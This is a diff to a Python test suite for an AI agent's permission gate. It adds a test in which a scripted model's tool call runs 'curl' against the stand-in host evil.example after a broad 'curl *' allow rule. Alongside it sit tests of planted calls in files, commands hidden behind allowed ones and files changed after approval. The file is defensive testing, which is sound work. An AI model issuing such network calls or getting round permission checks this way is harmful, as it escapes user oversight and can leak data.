@@ -8,12 +8,13 @@ import pytest
 from anycowork.api import auth, hosts
 from anycowork.domain.principals import SCOPES, PrincipalKind, Scope
 from anycowork.domain.tools import Provenance
-from anycowork.permissions import gate, resources
+from anycowork.permissions import gate, judging, resources, rules
 from anycowork.permissions.commands import ParsedCommand
 from anycowork.permissions.wrappers import Part
 from support.hands import EVERYTHING
 from support.house import Chat, Guest, Refused, at_home
 from support.mechanisms import Mechanism, require_needed
+from support.outsides import PretendedOutside, Service, serving
 from support.scripted_model import call
 from support.spec import proves
 
@@ -64,6 +65,23 @@ async def change_the_file_after_it_was_shown(at: Path) -> bool:
         return (guest.workspace / "a.txt").read_text() == "new, but another\n"
 
 
+async def reach_the_network_with_an_allowed_command(at: Path) -> bool:
+    fetch = call("execute_command", command="curl -sS http://evil.example/", network=["evil.example"])
+    async with serving(Service()) as service:
+        outside = PretendedOutside()
+        outside.put("evil.example", 80, service)
+        async with at_home(at, replies=[fetch, "Done."], outside=outside) as guest:
+            rule = {"tool": "execute_command", "resource": "curl *", "effect": "allow", "scope": "global"}
+            await guest.ask("POST", "/rules", rule, expect=201)
+            await (await guest.chat()).send("fetch")
+            return bool(service.received)
+
+
+def no_word_on_the_network(patch: pytest.MonkeyPatch) -> None:
+    for room in (judging, rules):
+        patch.setattr(room, "not_allowed", lambda touched, index: ())
+
+
 def words_as_typed(text: str, depth: int = 0) -> ParsedCommand:
     """As if a command line were one command with its words."""
     return ParsedCommand(text=text, parts=(Part(words := tuple(text.split()), known=len(words)),))
@@ -73,6 +91,7 @@ DOOR = [
     Mechanism("the role at the door", call_as_planner, without(gate, "require_authority", lambda *given: EVERYTHING)),
     Mechanism("knowing quoted calls", plant_a_call_in_a_file, without(Provenance, "suspicious", False)),
     Mechanism("parsing commands", hide_behind_an_allowed_command, without(resources, "parse", words_as_typed)),
+    Mechanism("network as a resource", reach_the_network_with_an_allowed_command, no_word_on_the_network),
     Mechanism(
         "binding approvals", change_the_file_after_it_was_shown, without(gate, "bind", lambda *given: "whatever")
     ),
